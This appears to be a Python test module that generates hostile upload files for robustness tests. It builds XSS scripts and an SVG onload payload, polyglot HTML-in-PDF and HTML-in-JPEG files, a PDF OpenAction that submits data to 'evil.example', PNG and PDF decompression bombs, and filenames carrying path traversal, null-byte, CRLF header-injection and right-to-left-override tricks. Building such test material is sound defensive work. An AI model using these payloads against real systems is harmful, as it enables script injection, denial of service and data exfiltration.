"""Files that mean harm, from a seed: each with the name it comes under."""

import random
import struct
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from tests.reports import files

SCRIPT = b"<script>document.title = 'harmed'</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
NAMES = (
    "../../../etc/passwd.pdf",
    "..\\..\\windows.pdf",
    "report.pdf\x00.html",
    "report.pdf.html",
    "<script>alert(1)</script>.pdf",
    'a"; filename="evil.html',
    "\u202efdp.exe",
    "x" * 300 + ".pdf",
    ".pdf",
    "",
    "CON.pdf",
    "line\r\nSet-Cookie: a=b.pdf",
    "{{ADDRESS}}.pdf",
)


def made(seed: int, most: int) -> Iterator[tuple[str, bytes]]:
    """`most` of them; the same for the same seed."""
    dice = random.Random(seed)  # noqa: S311 - makes test data
    for _ in range(most):
        yield dice.choice(NAMES), dice.choice(KINDS)(dice)


def _page(dice: random.Random) -> bytes:
    return b"<!doctype html><title>x</title>" + SCRIPT * dice.randint(1, 5)


def _svg(dice: random.Random) -> bytes:
    return SVG + b" " * dice.randint(0, 99)


def _html_in_pdf(dice: random.Random) -> bytes:
    return b"%PDF-1.7\n" + SCRIPT + files.pdf(dice.randint(1, 3)) + SCRIPT


def _pdf_after_html(dice: random.Random) -> bytes:
    return SCRIPT + b" " * dice.randint(0, 2000) + files.pdf(1)


def _html_in_jpeg(dice: random.Random) -> bytes:
    whole = files.photo((dice.randint(1, 60), 40))
    comment = SCRIPT * 20
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + whole[2:] + SVG


def _script_in_pdf(dice: random.Random) -> bytes:
    act = b"<</S/JavaScript/JS(app.alert(%d);this.submitForm\\('https://evil.example/'\\))>>" % dice.randint(1, 9)
    return _pdf(b"[0 0 612 792]", b"", b"/OpenAction" + act)


def bomb(dice: random.Random) -> bytes:
    """A picture that says it is vast."""
    side = dice.choice((30_000, 65_000, 200_000))
    return _png(side, side, zlib.compress(bytes(dice.randint(100, 1000)), 9))


def deep_png(dice: random.Random) -> bytes:
    """Eight thousand by six thousand, all of it there."""
    line = b"\x00" + bytes(8_000 * 3)
    return _png(8_000, 6_000, zlib.compress(line * 6_000, 9))


def _png(width: int, height: int, body: bytes) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def bomb_pdf(dice: random.Random) -> bytes:
    """One page whose content unpacks to a hundred megabytes."""
    stream = zlib.compress(b"0 0 m 1 1 l S\n" * (100_000_000 // 14 // dice.randint(1, 3)), 9)
    return _pdf(b"[0 0 612 792]", stream)


def _vast_pdf(dice: random.Random) -> bytes:
    return _pdf(dice.choice((b"[0 0 14400000 14400000]", b"[0 0 1 14400]", b"[0 0 0 0]", b"[0 0 -5 9]")), b"")


def _pdf(box: bytes, stream: bytes, more: bytes = b"") -> bytes:
    parts = [
        b"<</Type/Catalog/Pages 2 0 R" + more + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox" + box + b"/Contents 4 0 R>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n" % len(stream) + stream + b"\nendstream",
    ]
    out, places = b"%PDF-1.4\n", []
    for number, part in enumerate(parts, start=1):
        places.append(len(out))
        out += b"%d 0 obj" % number + part + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        out
        + b"xref\n0 5\n0000000000 65535 f \n"
        + table
        + b"trailer<</Size 5/Root 1 0 R>>startxref\n%d\n%%%%EOF" % len(out)
    )


def _looping_pdf(dice: random.Random) -> bytes:
    """Whose tree of pages has itself as a branch."""
    return _pdf(b"[0 0 9 9]", b"").replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R]/Count 9")


def _cut(dice: random.Random) -> bytes:
    whole = dice.choice((files.pdf(3), files.photo(), files.photo(kind="PNG"), files.photo(kind="WEBP")))
    return whole[: dice.randint(1, len(whole) - 1)]


def _scratched(dice: random.Random) -> bytes:
    whole = bytearray(dice.choice((files.pdf(3), files.photo(), files.photo(kind="PNG"))))
    for _ in range(dice.randint(1, 40)):
        whole[dice.randrange(len(whole))] = dice.randrange(256)
    return bytes(whole)


def _zip(dice: random.Random) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as zipped:
        zipped.writestr("word/document.xml", bytes(dice.randint(1_000, 5_000_000)))
    return out.getvalue()


def _noise(dice: random.Random) -> bytes:
    return dice.randbytes(dice.randint(0, 4000))


KINDS: tuple[Callable[[random.Random], bytes], ...] = (
    _page,
    _svg,
    _html_in_pdf,
    _pdf_after_html,
    _html_in_jpeg,
    _script_in_pdf,
    bomb,
    deep_png,
    bomb_pdf,
    _vast_pdf,
    _looping_pdf,
    _cut,
    _scratched,
    _zip,
    _noise,
)
